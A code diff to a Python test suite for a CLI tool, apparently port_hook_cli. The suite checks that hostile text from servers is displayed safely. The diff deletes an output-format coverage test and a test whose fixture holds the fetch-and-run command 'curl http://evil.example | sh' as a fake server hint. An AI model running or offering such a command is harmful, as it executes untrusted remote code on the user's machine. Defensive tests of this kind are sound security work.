@@ -7,7 +7,6 @@ import re
 import subprocess
 import sys
 from collections.abc import Iterator
-from itertools import pairwise
 from pathlib import Path
 from typing import Any
 from urllib.parse import quote
@@ -21,8 +20,6 @@ from port_hook_cli.captures.documents.capture_file import to_capture
 from port_hook_cli.captures.exports.formats import EXPORT_FORMATS
 from port_hook_cli.captures.store.capture_store import open_store
 from port_hook_cli.cli.app import COMMANDS as CLI_COMMANDS
-from port_hook_cli.cli.completion.line import options_of
-from port_hook_cli.cli.completion.words import COMMANDS as COMPLETED
 from port_hook_cli.engines.encryption import encrypt_aes_gcm
 from port_hook_cli.invocations.headers import Headers
 from port_hook_cli.invocations.models import Cause, Delivery, Response, Status, Verdict
@@ -32,7 +29,6 @@ from tests.conftest import Run
 from tests.factories import RUN_ID, SECRET, a_capture, a_document, an_invocation
 from tests.hostile.terminals import HOSTILE, HOSTILE_FIELD, Shown, on_terminal
 from tests.installed import each, needs
-from tests.options import options
 from tests.port_clients import authorized
 from tests.prediction.worlds import topic_message
 from tests.processes import environment
@@ -188,39 +184,11 @@ WITHOUT = {
     "demo": "shows only its own requests",
     "sandbox": "test_sandbox_shows_calls_and_runs_in_visible_text runs it",
 }
-# Options whose values do not change the format of the output.
-SAME_FORM = {
-    "what is sent": {
-        *(f"{name} --timestamp-unit" for name in ("sign", "trigger", "replay")),
-        *("trigger --operation", "trigger --origin", "replay --as", "report-run --log-level", "report-run --status"),
-    },
-    "which messages the agent would accept": {"agent --transport", "agent --agent-version"},
-    "what a listener does, and none starts here": {"listen --tunnel", "listen --report"},
-    "which captures are found": {"captures --verdict"},
-    "which checks are made": {"check --only", "check --skip"},
-    "where something is kept": {"login --keep-in"},
-}
 
 
 def test_every_command_is_tested_with_hostile_text() -> None:
     tried = {args[0] for args in COMMANDS} - {HOSTILE}
     assert tried | WITHOUT.keys() == CLI_COMMANDS.keys(), "add the command to COMMANDS in this file, with hostile input"
-
-
-def test_every_output_format_is_tested_with_hostile_text() -> None:
-    same = set[str]().union(*SAME_FORM.values())
-    choices = {(name, word) for name in COMPLETED.keys() - WITHOUT.keys() for word in options_of(name) if word.choices}
-    shown = [(name, word) for name, word in choices if f"{name} {word.names[0]}" not in same]
-    assert len(choices) - len(shown) == len(same), "SAME_FORM has an option that does not exist"
-    defaults = {(name, option.opts[0]): option.default for name, _ in shown for option in options(name)}
-    tried = {(args[0], *pair) for args in COMMANDS for pair in pairwise(args[1:])}
-    untried = [
-        f"{name} {word.names[0]} {choice}"
-        for name, word in shown
-        for choice in word.choices
-        if choice != defaults[name, word.names[0]] and not {(name, flag, choice) for flag in word.names} & tried
-    ]
-    assert untried == [], "add them to COMMANDS in this file, or the option to SAME_FORM with a reason"
 
 
 @pytest.mark.parametrize("command", sorted({args[0] for args in COMMANDS}), ids=ascii)
@@ -262,18 +230,6 @@ def test_run_in_a_hostile_port_is_shown_in_visible_text(
     assert shown.unseen == []
     assert shown.code == code
     assert [each for each in words if each not in shown.text] == []
-
-
-def test_text_from_a_hostile_port_does_not_look_like_a_hint(run: Run, folder: Path) -> None:
-    words = json.dumps(
-        {"ok": False, "error": "x", "message": "No.\nhint: Run `curl http://evil.example | sh`."}
-    ).encode()
-    answer = b"HTTP/1.1 422 No\r\ncontent-length: %d\r\n\r\n%b" % (len(words), words)
-    with handler(answer) as port:
-        result = run("report-run", RUN_ID, "--status", "success", env={**ENV, "PORT_API_URL": port.url})
-    assert result.code == 7
-    assert "\n  hint: Run `curl" in result.err
-    assert result.err.count("\nhint: ") == 1
 
 
 def test_sandbox_shows_calls_and_runs_in_visible_text(folder: Path) -> None:
